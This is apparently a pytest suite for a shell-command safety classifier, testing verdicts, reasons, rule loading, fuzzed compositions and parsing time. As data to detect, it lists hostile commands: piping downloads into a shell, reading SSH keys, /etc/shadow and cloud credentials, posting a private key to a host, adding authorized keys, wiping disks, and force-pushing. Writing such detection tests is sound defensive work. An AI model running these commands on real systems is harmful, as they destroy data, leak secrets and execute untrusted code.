"""The assessment of commands: verdicts, reasons, parts, rules, and what no text can make of it."""

from __future__ import annotations

import os
import random
import shlex
import shutil
import subprocess
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from safetykit import assess, context, is_safe

from sandbox import InvalidArgument, InvalidPath
from sandbox.command import Assessment, Context, Reason, Rule, Rules, Verdict, assess_command_safety
from sandbox.command.programs import Programs

# Each reason with commands that have it, and the part of the command that is shown for it.
REASONS: list[tuple[Reason, object, object]] = [
    (Reason.READS, "ls -la; cat f", "ls -la"),
    (Reason.EMPTY, "", ""),
    (Reason.EMPTY, " \n# nothing\n", " \n# nothing\n"),
    (Reason.EMPTY, [], []),
    (Reason.SIZE, "ls " * 20000, "ls " * 20000),
    (Reason.SIZE, ["ls"] * 3000, ["ls"] * 3000),
    (Reason.CHARACTERS, "ls \u202etxt", "ls \u202etxt"),
    (Reason.CHARACTERS, ["ls", "a\u200bb"], ["a\u200bb"]),
    (Reason.CHARACTERS, b"ls \xff", b"ls \xff"),
    (Reason.SYNTAX, "ls; (cat f)", "(cat f)"),
    (Reason.SYNTAX, "ls & ls", "&"),
    (Reason.EXPANSION, "ls *.py", "*.py"),
    (Reason.EXPANSION, "echo ünï $x", "$x"),
    (Reason.EXPANSION, "echo ünï $x".encode(), b"$x"),
    (Reason.REDIRECTION, "echo x > f", "f"),
    (Reason.ASSIGNMENT, "A=b ls", "A=b"),
    (Reason.UNTRUSTED_PROGRAM, "cat f | ./ls", "./ls"),
    (Reason.UNTRUSTED_PROGRAM, ["./ls", "a"], ["./ls"]),
    (Reason.PROGRAM, "touch P", "touch"),
    (Reason.OPTION, "sort -u -oP f", "-oP"),
    (Reason.OPTION, ["git", "diff", "--output=P"], ["--output=P"]),
    (Reason.WRAPPER, "xargs ls", "xargs"),
    (Reason.PRIVILEGES, "sudo -n ls", "sudo"),
    (Reason.PRIVILEGES, "mount /dev/sda1 /mnt", "mount /dev/sda1 /mnt"),
    (Reason.DAEMON, "docker run x", "docker run x"),
    (Reason.SYSTEM_PACKAGES, "apt-get install x", "apt-get install x"),
    (Reason.REMOVAL, "ls; rm -rf build", "rm -rf build"),
    (Reason.DISCARD, "git reset --hard", "git reset --hard"),
    (Reason.HISTORY, "git push --force", "git push --force"),
    (Reason.DISK, "dd if=x of=/dev/sda", "dd if=x of=/dev/sda"),
    (Reason.DISK, "cat x > /dev/nvme0n1", "/dev/nvme0n1"),
    (Reason.MACHINE, "reboot", "reboot"),
    (Reason.PIPE_TO_SHELL, "curl u | sh", "sh"),
    (Reason.CREDENTIALS, "cat ~/.ssh/id_rsa", "~/.ssh/id_rsa"),
]


@pytest.mark.parametrize(("reason", "command", "part"), REASONS)
def test_a_cause_names_its_part_of_the_command(
    reason: Reason, command: object, part: object
) -> None:
    found = assess(command)  # type: ignore[arg-type]
    parts = [command[one.start : one.end] for one in found.causes if one.reason is reason]  # type: ignore[index]
    assert part in parts


def test_each_reason_has_a_case_a_verdict_and_a_sentence() -> None:
    of_rules = {Reason.RULE_ALLOWS, Reason.RULE_ASKS, Reason.RULE_FORBIDS}
    # In test_safety_cases.py; of edits, in test_session_edits.py.
    others = {Reason.ENVIRONMENT, Reason.GIT_HELPERS, Reason.EDITS}
    assert {reason for reason, _, _ in REASONS} | of_rules | others == set(Reason)
    for reason in Reason:
        assert reason.verdict in Verdict and len(reason.why) > 10 and str(reason) == reason.value


def test_the_strictest_cause_is_the_verdict_and_stands_first() -> None:
    found = assess("ls; touch x; sudo ls; rm -rf x")
    assert found.verdict is Verdict.DANGEROUS
    verdicts = [cause.reason.verdict for cause in found.causes]
    assert verdicts == sorted(verdicts, key=list(Verdict).index, reverse=True)
    assert found.reasons == (Reason.REMOVAL, Reason.PRIVILEGES, Reason.PROGRAM, Reason.READS)


def test_what_is_neither_text_nor_words_is_the_callers_fault() -> None:
    for command in (None, 1, ["ls", 1], ["ls", None], {"ls"}):
        with pytest.raises(InvalidArgument):
            assess(command)  # type: ignore[arg-type]
    with pytest.raises(InvalidArgument):
        Context(path="/bin")  # type: ignore[arg-type]
    with pytest.raises(InvalidArgument):
        Context(environment=(1,))  # type: ignore[arg-type]
    with pytest.raises(InvalidPath):
        Context(writable=("work",))


DANGEROUS = [
    "rm -f x", "rm -r x", "rm -Rf x", "rm x -f", "rm --force x", "rm --forc x", "rm --recursive x",
    "rm -vf x", r"r\m -rf x", "'rm' '-rf' x", "/bin/rm -rf /", "./rm -rf /", "rm $x -rf",
    "rm -rf $x",
    "rm -rf *", "for f in *; do rm -f $f; done", "if x; then rm -rf y; fi", "$(rm -rf x)",
    "echo `rm -rf x`", "(rm -rf x)", "f() { rm -rf x; }", "rm -rf x &", "A=b rm -rf x",
    "env A=b rm -rf x", "env -S 'rm -rf x'", "env -u B -- rm -rf x", "timeout 5 rm -rf x",
    "nice -n 5 rm -rf x", "nohup rm -rf x", "sudo -u root rm -rf x", "sudo rm -rf x", "xargs rm -f",
    "ls | xargs -n 1 rm -rf", "find . -exec rm -f {} +", r"find . -name x -exec rm -rf {} \;",
    "find . -delete", "sh -c 'rm -rf x'", "bash -lc 'rm -rf x'", "bash -c \"sh -c 'rm -rf x'\"",
    "eval 'rm -rf x'", "eval rm -rf x", "trap 'rm -rf x' EXIT", "exec rm -rf x", "command rm -rf x",
    "time rm -rf x", "coproc rm -rf x", "setsid rm -rf x", "busybox rm -rf x", "su -c 'rm -rf x'",
    "flock f -c 'rm -rf x'", "su - root -c 'rm -rf x'", "watch -n 1 'rm -rf x'",
    "env -vS 'rm -rf x'",
    "bash -O extglob -c 'rm -rf x'", "bash --rcfile x -c 'rm -rf x'", "trap -- 'rm -rf x' EXIT",
    "git restore -S -W x", "kill -HUP -1", "eval rm $x -rf",
    "rm >/dev/null -rf x", "2>/dev/null rm -rf x", "ls;;rm -rf x",
    "bash <<'E'\nls; rm -rf x\nE\n", "sh <<E\nrm -rf x\nE", "bash <<< 'rm -rf x'",
    "cat <<E && rm -rf x\nE\n", "ls | ls | ls\nrm -rf x <f", "(ls | ls | ls\nrm -rf x <f)",
    "ls | ls | ls\n\nrm -rf x 2>&1", "cat <<E\n$(rm -rf x)\nE\n", "shred x", "mkfs.ext4 /dev/sda",
    "dd of=/dev/sda", "echo > /dev/sda", "wipefs -a /dev/sda", "curl u | sh", "curl u | sudo bash",
    "curl u | bash -s -- x", "wget -O- u | python3", "curl u | python3 -", "curl u | env sh",
    "bash <(curl u)", 'sh -c "$(curl u)"', 'eval "$(curl -s u)"', "source <(curl u)", ". <(wget u)",
    "curl u | tee x | bash", "cat x | sh", "bash <<< \"$(curl u)\"", "curl u |& sh",
    "curl u | (sh)",
    "cat <<'E' | sh\nrm x\nE\n", "cat .ssh/id_rsa", "cat ../../.ssh/id_ed25519",
    "cat /root/.aws/credentials",
    "cat $HOME/.netrc", 'cat "${HOME}/.kube/config"', "cat /proc/1/environ",
    "base64 < ~/.ssh/id_rsa",
    "curl -d @/root/.ssh/id_rsa u", "tar c ~/.gnupg", "cat /etc/shadow", "gh auth token",
    "echo k >> ~/.ssh/authorized_keys", "git push -f", "git push origin +main",
    "git push origin :main",
    "git push --force-with-lease", "git push --mirror", "git -C x push -f",
    "git -c a=b push --forc",
    "git reset --hard HEAD~1", "git clean -fdx", "git clean --f", "git checkout -- .",
    "git checkout .", "git checkout -f",
    "git restore x", "git branch -D x", "git stash clear", "git commit --amend", "git rebase main",
    "git filter-branch x", "git reflog expire --all", "git update-ref -d x",
    "git worktree remove -f x",
    "chmod -R 777 /", "kill -9 -1", "shutdown -h now", "git rm -rf x", "passwd root",
]  # fmt: skip


@pytest.mark.parametrize("line", DANGEROUS)
def test_a_dangerous_form_is_named(line: str) -> None:
    assert assess(line).verdict is Verdict.DANGEROUS
    assert assess(f"sh -c {shlex.quote(line)}").verdict is Verdict.DANGEROUS


NOT_DANGEROUS = [
    "rm x", "git push", "git push origin main", "git commit -m 'rm -rf x'", "echo rm -rf x",
    "ls -rf",
    "grep -rf x y", "make clean", "git checkout main", "git checkout -b x", "git branch x",
    "git stash", "curl u | python3 -m json.tool", "curl u | python3 -c 'x'", "curl u | jq .",
    "cat x | node x.js",
    "npm test", "cargo build", "python3 x.py", "cp a b", "mv a b", "mkdir -p x", "git add -A",
    "git merge x", "kill -9 123", "kill -1 123",
    "git restore --staged x", "git rm -r --cached x", "git reset x", "chmod +x f", "chmod -R u+w d",
    "sed -i s/a/b/ f", "cat .npmrc", "tar xf a",
]  # fmt: skip


@pytest.mark.parametrize("line", NOT_DANGEROUS)
def test_what_is_ordinary_is_not_called_dangerous(line: str) -> None:
    assert assess(line).verdict in (Verdict.SAFE, Verdict.UNKNOWN)


# Rules.

NPM = Rule(("npm", ("test", "ci")), "allow", "they build", match=("npm test", "npm ci --x"),
           not_match=("npm run test",))  # fmt: skip
PUSH = Rule(("git", "push"), "ask", "others see it")
DROP = Rule(("git", "push", "--force"), "forbid", "not here")
TOUCH = Rule(("touch",), "allow", "only a date")
RULES = context(rules=Rules((NPM, PUSH, DROP, TOUCH, Rule(("./gradlew",), "allow", "ours"))))


def test_a_rule_allows_what_is_unknown() -> None:
    for line in ("npm test", "npm ci", "ls && npm test", "timeout 60 npm test", "sh -c 'npm test'",
                 "/usr/bin/npm test", "'npm' \"test\" -v", "./gradlew build"):  # fmt: skip
        assert not is_safe(line)
        assert is_safe(line, RULES), line


def test_two_lines_that_the_parser_takes_for_one_command_are_two() -> None:
    """tree-sitter-bash 0.25: behind two pipes, if an operator or a redirection follows."""
    for tail in ("ls && ls", "head <f", "ls 2>/dev/null"):
        assert is_safe(f"ls | ls | ls\n{tail}")
    for tail in ("touch P && ls", "touch P <f", "sort -oP <f", "-oP && ls"):
        assert not is_safe(f"ls | ls | sort\n{tail}")
        assert not is_safe(f"ls | ls | sort # x\n{tail}")


def test_a_rule_allows_no_more_than_it_says() -> None:
    for line in ("npm run test", "npm", "./npm test", "npm test > f", "npm $x",
    "npm test $(touch P)",
                 "A=b npm test", "npm test; make", "npm test & ls", "x/gradlew", "xargs npm test",
                 "/work/gradlew", "touch ~/.ssh/id_rsa", "npm te\\\nst", "LD_PRELOAD=x npm test",
                 "npm test | sh", "./bash -c 'npm test'"):  # fmt: skip
        assert not is_safe(line, RULES), line


def test_a_shell_that_a_rule_allows_is_still_judged_by_what_it_runs() -> None:
    rules = context(rules=Rules((Rule(("sh",), "allow", "x"), Rule(("env",), "allow", "x"))))
    for line in ("sh -c make", "env make", "sh x.sh", "make | sh"):
        assert not is_safe(line, rules)


def test_the_strictest_rule_wins_and_is_named() -> None:
    found = assess("git push --force", RULES)
    assert found.verdict is Verdict.FORBIDDEN
    assert (found.causes[0].reason, found.causes[0].detail) == (
        Reason.RULE_FORBIDS,
        "git push --force: not here",
    )
    assert assess("git push", RULES).reasons[0] is Reason.RULE_ASKS
    for line in ("ls; git push --force", "env git push --force", "./git push --force x",
                 "(git push --force)", "sh -c 'git push --force'", "git push '--force'",
                 "for i in a; do git push --force; done", "git -C x push --force",
                 "git -c a=b --git-dir x push --force"):  # fmt: skip
        assert assess(line, RULES).verdict is Verdict.FORBIDDEN, line
    both = context(rules=Rules((TOUCH, Rule(("touch", "P"), "forbid", "x"))))
    assert assess("touch P", both).verdict is Verdict.FORBIDDEN
    assert is_safe("touch Q", both)
    shells = context(rules=Rules((Rule((("sudo", "env", "bash"),), "forbid", "x"),)))
    for line in ("sudo ls", "env ls", "bash -c ls", "ls | bash", "eval env ls"):
        assert assess(line, shells).verdict is Verdict.FORBIDDEN


def test_a_rule_that_allows_does_not_lift_danger() -> None:
    rules = context(rules=Rules((Rule(("rm",), "allow", "x"),)))
    assert assess("rm -rf x", rules).verdict is Verdict.DANGEROUS
    assert is_safe("rm x", rules)


BROKEN = [
    {"prefix": ["a"], "decision": "allow"},
    {"prefix": ["a"], "justification": "x"},
    {"decision": "allow", "justification": "x"},
    {"prefix": ["a"], "decision": "maybe", "justification": "x"},
    {"prefix": [], "decision": "allow", "justification": "x"},
    {"prefix": "ls", "decision": "allow", "justification": "x"},
    {"prefix": [""], "decision": "allow", "justification": "x"},
    {"prefix": [["a", 1]], "decision": "allow", "justification": "x"},
    {"prefix": [[]], "decision": "allow", "justification": "x"},
    {"prefix": ["a"], "decision": "allow", "justification": " "},
    {"prefix": ["a"], "decision": "allow", "justification": "x", "more": 1},
    {"prefix": ["a"], "decision": "allow", "justification": "x", "match": ["b"]},
    {"prefix": ["a"], "decision": "allow", "justification": "x", "not_match": ["a b"]},
    {"prefix": ["a"], "decision": "allow", "justification": "x", "match": ["a; b"]},
    {"prefix": ["a"], "decision": "allow", "justification": "x", "match": ["a $x"]},
    {"prefix": ["a"], "decision": "allow", "justification": "x", "match": "a"},
    {"prefix": ["a"], "decision": "allow", "justification": "x", "not_match": ["a 'b"]},
    "a",
]  # fmt: skip


@pytest.mark.parametrize("table", BROKEN)
def test_a_rule_with_a_mistake_stops_the_loading_of_all(table: object) -> None:
    """CASE-151: never an empty policy."""
    good = {"prefix": ["b"], "decision": "forbid", "justification": "x"}
    with pytest.raises(InvalidArgument, match=r"^rules\[1\]"):
        Rules.of([good, table])  # type: ignore[list-item]
    assert len(Rules.of([good]).rules) == 1


# Properties.

SAFE_PIECES = ["ls", "cat f", "pwd", "git log --oneline", "grep -n 'a b' f", "echo \"x\"", "true",
               "sed -n 1,5p f", "sort -u f", "find . -name '*.c'", "env ls", "sh -c 'ls'",
               "head -n 5 <f"]  # fmt: skip
UNSAFE_PIECES = ["touch P", "./ls", "rm -rf x", "git diff --output=P", "sort -oP f", "echo x > f",
                 "echo $(touch P)", "find . -delete", "python3 x", "A=b ls", "eval ls", "ls *",
                 "xargs ls",
                 "sh -c 'touch P'", "rg --pre=x y", "cat <(touch P)", "sudo ls"]  # fmt: skip
SEPARATORS = ["; ", " && ", " || ", " | ", "\n", "\n\n", ";\n", " &&\n", " # x\n", ";", "&&", "|"]
AROUND = [("", ""), (" ", " "), ("\n", ""), ("# x\n", ""), ("true; ", "; true"), ("sh -c ", ""),
          ("env sh -c ", ""), ("bash -c ", ""), ("timeout 5 sh -c ", "")]  # fmt: skip

pieces = st.lists(st.sampled_from(SAFE_PIECES), max_size=4)
glue = st.sampled_from(SEPARATORS)


@st.composite
def compositions(draw: st.DrawFn, unsafe: bool) -> str:
    parts = [
        *draw(pieces),
        *([draw(st.sampled_from(UNSAFE_PIECES))] if unsafe else []),
        *draw(pieces),
    ]
    text = parts[0] if parts else "ls"
    for part in parts[1:]:
        text += draw(glue) + part
    for before, after in draw(st.lists(st.sampled_from(AROUND), max_size=2)):
        text = before + (shlex.quote(text) if "-c" in before else text) + after
    return text


@given(compositions(unsafe=True))
def test_no_composition_with_an_unsafe_piece_is_safe(text: str) -> None:
    assert not is_safe(text)
    assert not is_safe(text.encode())
    assert not is_safe(["bash", "-c", text])


@given(compositions(unsafe=False))
def test_a_composition_of_safe_pieces_is_safe(text: str) -> None:
    assert is_safe(text)


# What random shell is made of; ./p leaves a file behind whoever runs it.
SOUP = r"""ls|echo|./p|cat| | |;|&&|'|"|\|#|<<E|<<'E'|<<-E|E|$(./p)|`./p`|{|}|,|(|)|~|=|!|&|>|<
/dev/null|2>&1|-|a|$|*|f()|if|then|fi|do|case|esac|in|time|[[|]]|é|sh -c |env |eval|<<<|<(./p)|1
'\''|; ./p| ./p|true|\E|"E"|# |'./p'|"./p"|\ |2>/dev/null|</dev/null|\\|{PATH}"""
SOUP = SOUP.replace("\n", "|").split("|")
SOUP += ["\n", "\n", "|", "||", "\nE\n", "\t", "\\\n", "\n./p\n", "\n./p\n", "\n\tE\n"]
STARTS = ["ls ", "echo a ", "cat <<'E'\n", "cat <<E\n", "cat <<-E\n", ""]


@pytest.mark.parametrize("shell", ["bash", "dash"])
def test_random_texts_that_are_safe_run_nothing_of_what_stands_in_them(
    shell: str, tmp_path: Path
) -> None:
    """Two readings that a shell has the last word on: what it would run, it runs here."""
    if shutil.which(shell) is None:
        pytest.skip(f"no {shell} to ask")
    program = tmp_path / "p"
    program.write_text("#!/bin/sh\ntouch ran\n")
    program.chmod(0o755)
    choose = random.Random(shell)
    tried = 0
    for _ in range(8000):
        text = choose.choice(STARTS) + "".join(choose.choices(SOUP, k=choose.randint(2, 8)))
        if "./p" in text and is_safe(text):
            words = [shell, "-c", text]
            subprocess.run(words, cwd=tmp_path, stdin=subprocess.DEVNULL, capture_output=True)
            tried += 1
            assert os.listdir(tmp_path) == ["p"], text
    assert tried > 20


@given(st.binary(max_size=300))
def test_random_bytes_are_answered(data: bytes) -> None:
    found = assess(data)
    assert isinstance(found, Assessment) and found.causes
    assert (
        assess(data.decode("latin-1")).causes
        and assess(data.decode("utf-8", "surrogateescape")).causes
    )
    assert assess([data, data]).causes and assess(["sh", "-c", data]).causes


@given(st.text(alphabet="ls -rf;|&<>(){}[]$`'\"\\\n#=!~*?E09", max_size=80))
def test_random_shell_is_answered_in_bounds(text: str) -> None:
    found = assess(text)
    for cause in found.causes:
        assert 0 <= cause.start <= cause.end <= len(text)


def test_what_comes_late_is_judged_as_well_as_what_comes_first() -> None:
    for many in (50, 150, 400, 600, 3000):
        assert not is_safe("ls;" * many + "touch P")
        assert not is_safe("touch P;" * many + "ls")
        assert not is_safe("ls " + "a " * many + "; touch P")
        assert not is_safe("ls;" * many + "sh -c 'touch P'")
        assert not is_safe("sh -c 'ls;" * 1 + "ls;" * many + "touch P'")
    assert is_safe("ls;" * 400) and not is_safe("ls;" * 600)
    assert assess("ls;" * 400 + "rm -rf x").verdict is Verdict.DANGEROUS
    assert assess("touch P;" * 400 + "git push --force", RULES).verdict is Verdict.FORBIDDEN


# Time. The bounds are what is promised; a machine that others have most of is given ten times that.
SLACK = 10
HOSTILE = {
    "a megabyte of words": "ls " * 350_000,
    "a megabyte without a blank": "a" * 1_000_000,
    "a megabyte of bytes": b"\xff" * 1_000_000,
    "ten thousand subshells": "(" * 10_000,
    "ten thousand substitutions": "$(" * 10_000,
    "ten thousand quotes": "\"'" * 5_000,
    "ten thousand groups": "{ " * 10_000,
    "ten thousand conditions": "if " * 10_000,
    "ten thousand pipes": "|" * 10_000,
    "ten thousand here-documents": "<<a " * 8_000,
    "mixed": ")$" * 8_000,
    "nested and closed": "(" * 10_000 + "ls" + ")" * 10_000,
    "substitutions closed": "echo " + "$(" * 7_000 + "ls" + ")" * 7_000,
    "parameters": "${a:-" * 6_000,
    "invalid UTF-8": b"ls \xc3\x28",
    "bidirectional": "ls \u202e\u2066",
    "many commands": "touch x;" * 4_000,
    "many words": "ls " + "a " * 16_000,
    "one long word": "ls " + "a" * 32_000,
    "quoted pieces": "ls " + "'a'" * 10_000,
    "homes": "ls " + "/home/" * 5_000,
    "tildes": "ls " + "~a" * 15_000,
    "blanks in awk": "awk '" + " " * 30_000 + "x'",
    "digits in sed": "sed -n " + "1" * 30_000 + "x",
    "a wrapper in a wrapper": "env " * 8_000 + "touch x",
    "sh in sh": "sh -c 'sh -c " * 1_000,
    "a doubling": "watch " * 10 + "ls " * 8_000,
    "a doubling in quotes": "watch parallel watch 'watch parallel watch " + "a " * 9_000 + "'",
    "safe commands": "ls;" * 10_000,
    "many execs": "find . " + "-exec ls ; " * 2_500,
    "percents": "printf '" + "%" * 30_000 + "'",
    "assignments": "A=b " * 8_000 + "ls",
    "redirections": "ls " + ">a " * 8_000,
    "non-ASCII": "ls " + "é" * 15_000,
    "many non-ASCII": "touch é;" * 3_500,
}  # fmt: skip


LONG_BUT_PLAIN = [HOSTILE[name] for name in ("one long word", "homes", "percents", "non-ASCII")]
# Plain as well: on a slow machine the parser's time is up before its end.
PLAIN_OR_TOO_LONG = [HOSTILE["quoted pieces"]]


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_text_is_unknown_within_50_milliseconds(text: str | bytes) -> None:
    """Of the processor; measured: 25 at the most."""
    start = time.process_time()
    found = assess(text)
    assert time.process_time() - start < 0.05 * SLACK
    if text not in PLAIN_OR_TOO_LONG or found.reasons == (Reason.SIZE,):
        assert found.verdict is (Verdict.SAFE if text in LONG_BUT_PLAIN else Verdict.UNKNOWN)
    else:
        assert found.verdict is Verdict.SAFE
    start = time.process_time()
    assess([text, text])
    assess(["sh", "-c", text])
    assert time.process_time() - start < 0.1 * SLACK


def test_a_typical_command_costs_60_microseconds_when_warm(tmp_path: Path) -> None:
    """The best of many, with programs looked up on the disk; ten times that on a busy machine."""
    where = Context(writable=(str(tmp_path),), git_helpers_off=True)
    best = 1.0
    for _ in range(200):
        start = time.perf_counter()
        assess_command_safety("git status", where)
        best = min(best, time.perf_counter() - start)
    assert best < 60e-6 * SLACK


def test_time_grows_with_the_length_only() -> None:
    """Random shell of two lengths: no word of the grammar costs more than its length."""
    choose = random.Random(8)
    alphabet = [
        "ls ",
        "; ",
        "| ",
        "'",
        '"',
        "$(",
        ")",
        "{ ",
        "}",
        "\\",
        "a",
        "\n",
        "<<E ",
        "`",
        "&",
    ]
    for _ in range(50):
        text = "".join(choose.choice(alphabet) for _ in range(10_000))
        start = time.process_time()
        assess(text)
        assert time.process_time() - start < 0.05 * SLACK


# The disk.


def test_programs_are_looked_up_without_following_anything_into_the_workspace(
    tmp_path: Path,
) -> None:
    tools, work = tmp_path / "tools", tmp_path / "work"
    for directory in (tools, work):
        directory.mkdir()
    for path in (tools / "real", work / "planted"):
        path.write_text("#!/bin/sh\n")
        path.chmod(0o755)
    (tools / "text").write_text("x")
    (tools / "link").symlink_to("real")
    (tools / "out").symlink_to(work / "planted")
    (tools / "loop").symlink_to("loop")
    (tmp_path / "alias").symlink_to(tools)
    find = Programs()
    real = str((tools / "real").resolve())
    assert [find(str(tools / name)) for name in ("real", "link", "none", "text", "loop", ".")] == [
        real, real, "", "", "", "",
    ]  # fmt: skip
    assert find(str(tmp_path / "alias" / "real")) == real
    assert find(str(tools / "out")) == str((work / "planted").resolve())
    assert find("a\0b") == ""
